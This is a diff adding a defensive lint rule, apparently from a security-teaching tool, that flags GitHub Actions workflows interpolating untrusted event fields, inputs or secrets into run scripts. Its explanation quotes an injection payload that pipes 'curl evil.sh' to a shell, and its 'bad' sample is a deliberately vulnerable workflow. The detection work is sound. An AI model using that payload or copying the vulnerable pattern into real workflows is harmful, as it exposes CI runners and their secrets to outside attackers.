@@ -1,0 +1,67 @@
+import { l, yamlRule } from '../../rule';
+import { expressions, jobSteps, safeInputs, workflowJobs } from '../../yaml/actions';
+import { at, scalar, type YNode } from '../../yaml/model';
+
+/** Event fields an outsider can write: titles, bodies, branch names, commit messages... */
+const EVENT_FIELD = /\bgithub\.event\.[\w.[\]'"*-]+/g;
+/** Fields that are numbers, ids or hashes and cannot carry a shell payload. */
+const SAFE_EVENT_FIELD = /\.(number|id|\w+_id|sha|before|after|run_number|run_attempt|\w+_count|size|draft|merged|private|fork)$/;
+const INPUT = /\b(?:github\.event\.)?inputs\.([\w-]+)/g;
+const SECRET = /\bsecrets\.[\w-]+|\bsecrets\[/;
+
+function untrustedReference(body: string, safe: ReadonlySet<string>): string | undefined {
+  if (/\bgithub\.head_ref\b/.test(body)) return 'github.head_ref';
+  for (const match of body.matchAll(INPUT)) if (!safe.has(match[1])) return match[0];
+  for (const match of body.matchAll(EVENT_FIELD)) {
+    if (/^github\.event\.inputs\./.test(match[0])) continue;
+    if (!SAFE_EVENT_FIELD.test(match[0])) return match[0];
+  }
+  return undefined;
+}
+
+export default yamlRule({
+  id: 'untrusted-expression-in-run',
+  language: 'yaml',
+  documentKinds: ['github-actions'],
+  category: 'security',
+  severity: 'error',
+  anchors: ['actionlint:expression', 'zizmor:template-injection', 'CKV_GHA_2', 'CWE-78'],
+  messages: {
+    untrusted: l('run 스크립트에 외부에서 조작 가능한 값 {reference}가 직접 들어갑니다', 'The run script interpolates {reference}, which outsiders can control'),
+    secret: l('run 스크립트에 시크릿이 직접 들어갑니다; env로 전달하세요', 'The run script interpolates a secret directly; pass it through env'),
+  },
+  docs: {
+    summary: l('run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 secrets.*를 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력은 제외).', 'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or secrets.* (boolean/number/choice inputs are fine).'),
+    why: l(
+      '${{ }}는 셸이 실행되기 전에 글자 그대로 치환됩니다. PR 제목에 "; curl evil.sh | sh"를 쓰면 그 명령이 러너에서 토큰과 시크릿을 가진 채 실행됩니다. 시크릿을 직접 넣으면 스크립트 파일과 로그에 남을 수 있습니다.',
+      '${{ }} is substituted as text before the shell runs: a pull request titled "; curl evil.sh | sh" runs that command on the runner with the token and secrets. Secrets interpolated directly can also end up in script files and logs.',
+    ),
+    bad: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
+    good: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      # TODO: 이 값이 셸에서 어떻게 해석될지 생각해 보세요\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"\n',
+  },
+  weeks: ['intermediate/1', 'beginner/4'],
+  questions: [
+    l('PR 제목이나 브랜치 이름은 누가 정하나요? 그 값에 따옴표와 세미콜론이 들어 있다면 이 셸 스크립트는 어떻게 될까요?', 'Who chooses a pull request title or a branch name, and what happens to this shell script if it contains quotes and a semicolon?'),
+    l('${{ }}가 치환되는 시점과 셸 변수가 확장되는 시점은 어떻게 다를까요?', 'How does the moment ${{ }} is substituted differ from the moment a shell variable is expanded?'),
+  ],
+  scaffold: {
+    ko: '# TODO: 외부 입력을 데이터로만 다루기\n# 고려사항:\n# - 이 값은 누가 조작할 수 있나요? (PR 작성자, 이슈 작성자, 워크플로 실행자)\n# - env로 옮겨서 셸 변수로 읽으면 무엇이 달라지나요?\n# - 셸 안에서도 따옴표 처리가 필요할까요?\n# - env:\n#     VALUE: # TODO\n#   run: # TODO ("$VALUE"로 사용)\n',
+    en: '# TODO: treat outside input as data only\n# Consider:\n# - who can control this value (PR author, issue author, whoever dispatches)?\n# - what changes when you move it to env and read it as a shell variable?\n# - does it still need quoting inside the shell?\n# - env:\n#     VALUE: # TODO\n#   run: # TODO (use "$VALUE")\n',
+  },
+  check(context, document) {
+    const safe = safeInputs(document);
+    const inspect = (script: YNode | undefined) => {
+      for (const expression of expressions(script)) {
+        const reference = untrustedReference(expression.body, safe);
+        if (reference) context.report({ range: expression.range, messageId: 'untrusted', data: { reference } });
+        else if (SECRET.test(expression.body)) context.report({ range: expression.range, messageId: 'secret' });
+      }
+    };
+    for (const job of workflowJobs(document)) {
+      for (const step of jobSteps(job)) {
+        inspect(at(step, 'run'));
+        if (/^actions\/github-script@/.test(scalar(at(step, 'uses')) ?? '')) inspect(at(step, 'with.script'));
+      }
+    }
+  },
+});
